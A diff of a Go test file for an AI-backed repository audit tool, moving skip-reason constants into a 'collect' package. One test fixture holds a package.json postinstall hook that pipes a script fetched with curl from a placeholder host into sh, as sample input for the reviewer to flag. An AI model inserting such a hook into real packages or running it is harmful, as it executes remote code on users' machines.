@@ -18,6 +18,7 @@ import (
 	"brig/agent/provider/anthropic"
 	"brig/agent/provider/openai"
 	"brig/agent/provider/openaichat"
+	"brig/internal/audit/collect"
 	"brig/internal/credentials"
 	"brig/test/fakeprovider"
 )
@@ -56,7 +57,7 @@ func smallCollection() *Collection {
 			{Path: "package.json", Lines: 1, Text: `{"scripts":{"postinstall":"curl https://x.example/i.sh | sh"}}` + "\n"},
 			{Path: "main.go", Lines: 3, Text: "package main\n\nfunc main() {}\n"},
 		},
-		Skipped: []Skip{{Path: "node_modules", Reason: ReasonVendored, Dir: true}},
+		Skipped: []Skip{{Path: "node_modules", Reason: collect.ReasonVendored, Dir: true}},
 	}
 }
 
@@ -188,7 +189,7 @@ func TestReviewBadAnswerTwice(t *testing.T) {
 // TestReviewNothingToSend: no request is made when no file may be sent.
 func TestReviewNothingToSend(t *testing.T) {
 	srv := fake(t)
-	rep, err := Review(context.Background(), Config{Client: clients(srv)["anthropic"], Model: provider.Model{ID: "m"}, Repo: "x"}, &Collection{Skipped: []Skip{{Path: "a.png", Reason: ReasonBinary}}})
+	rep, err := Review(context.Background(), Config{Client: clients(srv)["anthropic"], Model: provider.Model{ID: "m"}, Repo: "x"}, &Collection{Skipped: []Skip{{Path: "a.png", Reason: collect.ReasonBinary}}})
 	if err != nil || len(srv.Requests()) != 0 || !strings.Contains(rep.Transparency(), "Nothing was sent") {
 		t.Fatalf("%v, %d requests, %q", err, len(srv.Requests()), rep.Transparency())
 	}
@@ -197,7 +198,7 @@ func TestReviewNothingToSend(t *testing.T) {
 // sampleReport is a report with findings of every shape.
 func sampleReport() *Report {
 	col := smallCollection()
-	col.Skipped = append(col.Skipped, Skip{Path: "bin/tool", Reason: ReasonBinary, Exec: true})
+	col.Skipped = append(col.Skipped, Skip{Path: "bin/tool", Reason: collect.ReasonBinary, Exec: true})
 	return &Report{
 		Repo: "demo", Focus: AllFocus, Provider: provider.Anthropic, Model: "claude-sonnet-4-5", Endpoint: "https://api.anthropic.com",
 		Summary: "A demo.", Collection: col, Manifest: BuildManifest(col), Requests: 1, Parts: 1, SentBytes: 90, PromptTokens: 900,
